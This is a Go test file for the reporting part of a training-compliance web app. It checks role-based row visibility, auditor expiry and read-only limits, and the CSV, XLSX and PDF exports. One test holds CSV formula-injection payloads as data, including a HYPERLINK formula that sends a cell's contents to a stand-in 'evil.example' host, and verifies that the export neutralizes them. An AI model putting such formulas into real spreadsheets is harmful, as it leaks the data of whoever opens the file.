package reports_test

import (
	"context"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/uptrace/bun"
	"github.com/xuri/excelize/v2"

	"custos/app/apptest"
	"custos/app/dbtest"
	"custos/app/people"
	"custos/app/reports"
)

func TestWhoSeesWhichRows(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, u string, _ *bun.DB) {
		co := newCompany(t, u)
		cases := []struct {
			who  string
			want []string // e-mail addresses in the CSV
		}{
			{"admin", []string{"ann", "bob", "lead", "carl", "dana"}},
			{"boss", []string{"ann", "bob", "lead"}},
			{"lead", []string{"ann"}},
			{"other", []string{"carl", "dana"}},
			{"audi", []string{"ann", "bob", "lead", "carl", "dana"}},
		}
		for _, tc := range cases {
			t.Run(tc.who, func(t *testing.T) {
				r := co.as(t, tc.who).Get(t, "/reports/completion.csv")
				if r.Status != http.StatusOK {
					t.Fatalf("status %d: %s", r.Status, r.Body)
				}
				got := emails(readCSV(t, r.Body))
				var keys []string
				for e := range got {
					keys = append(keys, strings.TrimSuffix(e, "@example.com"))
				}
				slices.Sort(keys)
				want := slices.Sorted(slices.Values(tc.want))
				if !slices.Equal(keys, want) {
					t.Errorf("%s sees %v, want %v", tc.who, keys, want)
				}
			})
		}
		t.Run("a manager never sees another team, whatever the filter", func(t *testing.T) {
			c := co.as(t, "boss")
			for _, q := range []string{"?department=Engineering", "?course=customer-information", "?department=Engineering&course=customer-information"} {
				r := c.Get(t, "/reports/completion.csv"+q)
				if r.Status != http.StatusOK {
					t.Fatalf("%s: status %d", q, r.Status)
				}
				for e := range emails(readCSV(t, r.Body)) {
					if e == "carl@example.com" || e == "dana@example.com" {
						t.Errorf("%s: boss sees %s", q, e)
					}
				}
			}
			for _, f := range []string{"xlsx", "pdf"} {
				r := c.Get(t, "/reports/completion."+f)
				if r.Status != http.StatusOK || strings.Contains(r.Body, "carl@example.com") {
					t.Errorf("%s: status %d", f, r.Status)
				}
			}
			if team := c.Get(t, "/team"); strings.Contains(team.Body, "Carl Clark") || strings.Contains(team.Body, "张伟") {
				t.Error("the team page shows another team")
			}
		})
		t.Run("employees are refused", func(t *testing.T) {
			c := co.as(t, "emp")
			for _, p := range []string{"/reports/completion.csv", "/reports/completion.xlsx", "/reports/completion.pdf", "/team"} {
				if r := c.Get(t, p); r.Status != http.StatusForbidden {
					t.Errorf("%s: status %d, want 403", p, r.Status)
				}
			}
		})
		t.Run("visitors are sent to sign in", func(t *testing.T) {
			if r := co.env.Client().Get(t, "/reports/completion.csv"); r.Status != http.StatusSeeOther {
				t.Errorf("status %d, want a redirect to /login", r.Status)
			}
		})
		t.Run("an auditor's scope limits the rows", func(t *testing.T) {
			co.grant(t, "audi", nil, []string{"Engineering"}, people.Date{})
			c := co.as(t, "audi")
			got := emails(readCSV(t, c.Get(t, "/reports/completion.csv").Body))
			if len(got) != 2 || got["carl@example.com"] != 1 || got["dana@example.com"] != 1 {
				t.Errorf("department scope: %v", got)
			}
			co.grant(t, "audi", []string{courseIR}, nil, people.Date{})
			records := readCSV(t, c.Get(t, "/reports/completion.csv").Body)
			for _, r := range records[1:] {
				if r[4] != courseIR {
					t.Errorf("course scope lets through %v", r)
				}
			}
			if len(records) != 3 { // ann's and bob's incident response
				t.Errorf("course scope: %d rows", len(records)-1)
			}
			if r := c.Get(t, "/reports/completion.csv?course="+courseCI); r.Status != http.StatusForbidden {
				t.Errorf("a course outside the grant: status %d", r.Status)
			}
			team := c.Get(t, "/team")
			if team.Status != http.StatusOK || strings.Contains(team.Body, "Protecting customer information") {
				t.Errorf("team page for a scoped auditor: status %d", team.Status)
			}
			if strings.Contains(team.Body, `action="/team/remind"`) {
				t.Error("an auditor is offered the remind button")
			}
			co.grant(t, "audi", nil, nil, people.Date{})
		})
	})
}

func TestAnExpiredAuditorIsLockedOut(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, u string, _ *bun.DB) {
		co := newCompany(t, u)
		today := people.DateOf(co.now)
		co.grant(t, "audi", nil, nil, today) // the last day still works
		c := co.as(t, "audi")
		if r := c.Get(t, "/reports/completion.csv"); r.Status != http.StatusOK {
			t.Fatalf("on the last day: status %d", r.Status)
		}
		yesterday := people.DateOf(co.now.AddDate(0, 0, -1))
		co.grant(t, "audi", nil, nil, yesterday)
		if r := c.Get(t, "/reports/completion.csv"); r.Status != http.StatusSeeOther || r.Header.Get("Location") != "/login" {
			t.Errorf("an expired auditor's session still works: status %d", r.Status)
		}
		var sessions int
		co.env.DB().NewRaw("SELECT COUNT(*) FROM sessions WHERE person_id = ?", co.people["audi"].ID).Scan(context.Background(), &sessions)
		if sessions != 0 {
			t.Errorf("%d sessions left", sessions)
		}
		fresh := co.env.Client()
		fresh.Get(t, "/login")
		if r := fresh.Post(t, "/login", url.Values{"email": {"audi@example.com"}, "password": {apptest.Password}}); r.Status != http.StatusUnauthorized {
			t.Errorf("an expired auditor signs in: status %d", r.Status)
		}
	})
}

func TestAdminsGrantAuditorAccess(t *testing.T) {
	co := newCompany(t, dbtest.SQLiteURL(t))
	c := co.as(t, "admin")
	id := co.people["audi"].ID
	page := c.Get(t, "/admin/people/"+itoa(id))
	if !strings.Contains(page.Body, `name="audit_until"`) || !strings.Contains(page.Body, `name="audit_courses"`) {
		t.Fatal("the person form has no auditor access fields")
	}
	form := url.Values{"name": {"Audrey Auditor"}, "department": {""}, "role": {"auditor"}, "locale": {"en"},
		"time_zone": {"Asia/Shanghai"}, "active": {"1"}, "audit_courses": {courseIR + "\n\n" + courseIR},
		"audit_departments": {"Engineering\r\nSales"}, "audit_until": {"2031-01-31"}}
	if r := c.Post(t, "/admin/people/"+itoa(id), form); r.Status != http.StatusSeeOther {
		t.Fatalf("save: status %d\n%s", r.Status, r.Body)
	}
	p, err := people.ByID(context.Background(), co.env.DB(), id)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(p.AuditCourses, []string{courseIR}) || !slices.Equal(p.AuditDepartments, []string{"Engineering", "Sales"}) ||
		p.AuditUntil.String() != "2031-01-31" {
		t.Errorf("stored %v %v %s", p.AuditCourses, p.AuditDepartments, p.AuditUntil)
	}
	var record string
	co.env.DB().NewRaw("SELECT record FROM audit_log WHERE action = 'person.update' ORDER BY seq DESC LIMIT 1").Scan(context.Background(), &record)
	if !strings.Contains(record, "until=2031-01-31") {
		t.Errorf("the audit record does not show the grant: %s", record)
	}
	form.Set("audit_until", "31/01/2031")
	if r := c.Post(t, "/admin/people/"+itoa(id), form); r.Status != http.StatusUnprocessableEntity {
		t.Errorf("a malformed expiry: status %d", r.Status)
	}
	form.Set("audit_until", "")
	form.Set("role", "employee")
	if r := c.Post(t, "/admin/people/"+itoa(id), form); r.Status != http.StatusSeeOther {
		t.Fatalf("save: status %d", r.Status)
	}
	p, _ = people.ByID(context.Background(), co.env.DB(), id)
	if len(p.AuditCourses) != 0 || len(p.AuditDepartments) != 0 {
		t.Errorf("a former auditor keeps a grant: %v %v", p.AuditCourses, p.AuditDepartments)
	}
}

// TestAuditorsCannotWrite walks every write route of the whole server as a signed-in auditor
// (with a valid CSRF token) and expects each to refuse with 401 or 403, except sign-in and
// sign-out and an auditor's own training (see the package comment). A new write route that
// forgets its role check fails here.
func TestAuditorsCannotWrite(t *testing.T) {
	co := newCompany(t, dbtest.SQLiteURL(t))
	own := map[string]bool{"/login": true, "/logout": true, "/courses/:slug/lessons/:n<int>": true,
		"/courses/:slug/quiz/start": true, "/courses/:slug/quiz": true, "/courses/:slug/sign": true}
	c := co.as(t, "audi")
	c.Get(t, "/") // a page with the session's CSRF token
	seen := map[string]bool{}
	for _, r := range co.env.Server.Fiber.GetRoutes(true) {
		switch r.Method {
		case http.MethodPost, http.MethodPut, http.MethodPatch, http.MethodDelete:
		default:
			continue
		}
		if own[r.Path] || seen[r.Method+r.Path] {
			continue
		}
		seen[r.Method+r.Path] = true
		path := strings.NewReplacer(":id<int>", "1", ":n<int>", "1", ":serial", "CUS-2026-T00001", ":email", "ann@example.com",
			":slug", courseCI, ":id", "1").Replace(r.Path)
		req, _ := http.NewRequest(r.Method, "http://custos.test"+path, strings.NewReader(url.Values{"_csrf": {c.CSRF()}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("X-CSRF-Token", c.CSRF())
		resp := c.Do(t, req)
		if resp.Status != http.StatusForbidden && resp.Status != http.StatusUnauthorized {
			t.Errorf("%s %s: an auditor gets %d, want 403 or 401", r.Method, r.Path, resp.Status)
		}
	}
	if len(seen) < 5 {
		t.Fatalf("only %d write routes found", len(seen))
	}
}

func TestCSVNeutralizesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil","x")`: `'=HYPERLINK("http://evil","x")`,
		"+1":                            "'+1", "-2": "'-2", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"Ann": "Ann", "": "", "a=b": "a=b", "张伟": "张伟", "'quoted": "'quoted",
	} {
		if got := reports.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
	dbtest.Each(t, func(t *testing.T, u string, db *bun.DB) {
		co := newCompany(t, u)
		hostile := map[string]string{
			"h1": `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "h2": "+1", "h3": "-2", "h4": "@x",
			"h5": "\tcmd", "h6": "\rcmd",
		}
		for key, name := range hostile {
			p := co.person(t, key, "placeholder", people.Employee, "", "Sales")
			// Names with control characters cannot come in through the product; the report must
			// still defuse them if they are ever stored.
			if _, err := db.NewUpdate().Model(p).Set("name = ?", name).WherePK().Exec(context.Background()); err != nil {
				t.Fatal(err)
			}
			co.assign(t, key, courseCI, 1, "first", co.now.AddDate(0, 0, -1), co.now.AddDate(0, 0, 20), nil, nil, nil)
		}
		r := co.as(t, "admin").Get(t, "/reports/completion.csv")
		if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") ||
			!strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("status %d, headers %v", r.Status, r.Header)
		}
		if !strings.Contains(r.Body, "\r\n") {
			t.Error("lines do not end with CRLF")
		}
		records := readCSV(t, r.Body)
		if !slices.Equal(records[0], reports.Columns) {
			t.Errorf("header %v", records[0])
		}
		found := 0
		for _, rec := range records[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q is not neutralized", cell)
				}
			}
			key := strings.TrimSuffix(rec[0], "@example.com")
			if name, ok := hostile[key]; ok {
				found++
				// A lone carriage return inside a field does not survive CRLF line ends; the
				// quote in front does.
				if want := "'" + strings.ReplaceAll(name, "\r", ""); strings.ReplaceAll(rec[1], "\r", "") != want {
					t.Errorf("%s: name cell %q, want %q", key, rec[1], want)
				}
			}
		}
		if found != len(hostile) {
			t.Errorf("found %d hostile rows of %d", found, len(hostile))
		}
	})
}

func TestCSVColumns(t *testing.T) {
	co := newCompany(t, dbtest.SQLiteURL(t))
	records := readCSV(t, co.as(t, "admin").Get(t, "/reports/completion.csv?course="+courseCI).Body)
	var ann, dana []string
	for _, r := range records[1:] {
		switch r[0] {
		case "ann@example.com":
			ann = r
		case "dana@example.com":
			dana = r
		}
	}
	if ann == nil || dana == nil {
		t.Fatalf("rows missing: %v", records)
	}
	col := func(row []string, name string) string { return row[slices.Index(reports.Columns, name)] }
	for name, want := range map[string]string{"name": "Ann Archer", "department": "Sales", "manager": "lead@example.com",
		"course": courseCI, "cycle": "1", "status": "completed", "score": "90", "undertaking_version": "v1-ann-version-hash"} {
		if got := col(ann, name); got != want {
			t.Errorf("ann's %s = %q, want %q", name, got, want)
		}
	}
	if col(ann, "certificate_serial") == "" || col(ann, "completed") == "" || col(ann, "opened") == "" || col(ann, "due") == "" {
		t.Errorf("ann's row lacks dates or serial: %v", ann)
	}
	if col(dana, "name") != "张伟" || col(dana, "score") != "" || col(dana, "undertaking_version") != "" {
		t.Errorf("dana's row %v", dana)
	}
}

func TestXLSXReadsBack(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, u string, _ *bun.DB) {
		co := newCompany(t, u)
		r := co.as(t, "admin").Get(t, "/reports/completion.xlsx?lang=zh-Hans")
		if r.Status != http.StatusOK || !strings.Contains(r.Header.Get("Content-Type"), "spreadsheetml") {
			t.Fatalf("status %d, %s", r.Status, r.Header.Get("Content-Type"))
		}
		f, err := excelize.OpenReader(strings.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if sheet != "完成情况" || rows[0][0] != "电子邮箱" || rows[0][1] != "姓名" {
			t.Errorf("sheet %q, header %v", sheet, rows[0])
		}
		if len(rows) != 1+7 {
			t.Errorf("%d rows, want 7 and a header", len(rows)-1)
		}
		var dana []string
		for _, row := range rows[1:] {
			if row[0] == "dana@example.com" {
				dana = row
			}
		}
		if dana == nil || dana[1] != "张伟" || dana[6] != "已完成" {
			t.Errorf("dana's row %v", dana)
		}
		// Dates are date cells, shown as YYYY-MM-DD.
		if len(dana) < 10 || len(dana[9]) != len("2006-01-02") || dana[9][4] != '-' {
			t.Errorf("completed date %v", dana)
		}
	})
}

func TestPDFReport(t *testing.T) {
	if _, err := exec.LookPath("pdftotext"); err != nil {
		if os.Getenv("CUSTOS_REQUIRE_TOOLS") != "" {
			t.Fatal("pdftotext is not installed (apt-get install poppler-utils)")
		}
		t.Skip("pdftotext is not installed")
	}
	co := newCompany(t, dbtest.SQLiteURL(t))
	r := co.as(t, "admin").Get(t, "/reports/completion.pdf")
	if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "application/pdf" {
		t.Fatalf("status %d, %s: %s", r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	text := pdfText(t, []byte(r.Body))
	flat := strings.Join(strings.Fields(text), " ")
	order := []string{"Training completion report", "Summary", "Completion by department", "Controls evidenced",
		"Exceptions: overdue (3)", "Exceptions: new hires who missed the onboarding window (1)",
		"Exceptions: leavers with open items (0)", "All assignments (7)"}
	last := -1
	for _, want := range order {
		i := strings.Index(flat, want)
		if i < 0 {
			t.Errorf("the PDF lacks %q", want)
			continue
		}
		if i < last {
			t.Errorf("%q comes out of order", want)
		}
		last = i
	}
	for _, want := range []string{"张伟", "Carl Clark", "PIPL-51", "ISO27001-A.6.3", "SOC2-CC2.2", "Custos Demo Company",
		"Engineering", "Sales", "Requested by Ada Admin"} {
		if !strings.Contains(flat, want) {
			t.Errorf("the PDF lacks %q", want)
		}
	}
	zh := co.as(t, "admin").Get(t, "/reports/completion.pdf?lang=zh-Hans&course="+courseCI)
	if text := pdfText(t, []byte(zh.Body)); !strings.Contains(text, "培训完成情况报表") || !strings.Contains(text, "张伟") {
		t.Errorf("the Chinese PDF lacks its title or a Chinese name:\n%s", text)
	}
}

func pdfText(t *testing.T, pdf []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "r.pdf")
	if err := os.WriteFile(path, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("pdftotext", "-enc", "UTF-8", path, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, out)
	}
	return string(out)
}

func TestBadInputIsRefused(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, u string, _ *bun.DB) {
		co := newCompany(t, u)
		c := co.as(t, "admin")
		before := downloads(t, co)
		for _, tc := range []struct{ query, message string }{
			{"?from=2026-03-01&to=2026-02-01", "after it ends"},
			{"?from=2026-13-01", "is not a date like"},
			{"?to=2026/01/01", "is not a date like"},
			{"?from=1%20March", "is not a date like"},
			{"?course=no-such-course", "There is no course"},
			{"?department=Nowhere", "Nobody belongs to a department"},
			{"?from=1976-01-01&to=2026-01-01", "longer than 10 years"},
			{"?from=1976-01-01", "longer than 10 years"},
		} {
			for _, f := range []string{"csv", "xlsx", "pdf"} {
				r := c.Get(t, "/reports/completion."+f+tc.query)
				if r.Status != http.StatusUnprocessableEntity || !strings.Contains(r.Body, tc.message) {
					t.Errorf("%s %s: status %d, body lacks %q", f, tc.query, r.Status, tc.message)
				}
				if ct := r.Header.Get("Content-Disposition"); ct != "" {
					t.Errorf("%s %s: a refusal comes as a download", f, tc.query)
				}
			}
		}
		zh := c.Get(t, "/reports/completion.csv?lang=zh-Hans&from=2026-03-01&to=2026-02-01")
		if !strings.Contains(zh.Body, "晚于结束日期") {
			t.Error("the refusal is not translated")
		}
		if got := downloads(t, co); got != before {
			t.Errorf("refused downloads were recorded: %d → %d", before, got)
		}
		// A good request is recorded with its format and filters.
		if r := c.Get(t, "/reports/completion.csv?course="+courseCI+"&from=2020-01-01&to=2029-12-31"); r.Status != http.StatusOK {
			t.Fatalf("status %d", r.Status)
		}
		var record string
		co.env.DB().NewRaw("SELECT record FROM audit_log WHERE action = 'report.download' ORDER BY seq DESC LIMIT 1").Scan(context.Background(), &record)
		for _, want := range []string{`"format":"csv"`, `"course":"customer-information"`, `"from":"2020-01-01"`, `"to":"2029-12-31"`, `"scope":"all"`} {
			if !strings.Contains(record, want) {
				t.Errorf("audit record %s lacks %s", record, want)
			}
		}
	})
}

func TestPeriodFilter(t *testing.T) {
	co := newCompany(t, dbtest.SQLiteURL(t))
	c := co.as(t, "admin")
	day := func(n int) string { return co.now.AddDate(0, 0, n).UTC().Format("2006-01-02") }
	// Opened 60 days ago: carl and dana; 5 days ago: bob's two.
	got := emails(readCSV(t, c.Get(t, "/reports/completion.csv?from="+day(-60)+"&to="+day(-60)).Body))
	if len(got) != 2 || got["carl@example.com"] != 1 || got["dana@example.com"] != 1 {
		t.Errorf("opened 60 days ago: %v", got)
	}
	got = emails(readCSV(t, c.Get(t, "/reports/completion.csv?from="+day(-6)).Body))
	if len(got) != 1 || got["bob@example.com"] != 2 {
		t.Errorf("opened in the last 6 days: %v", got)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }
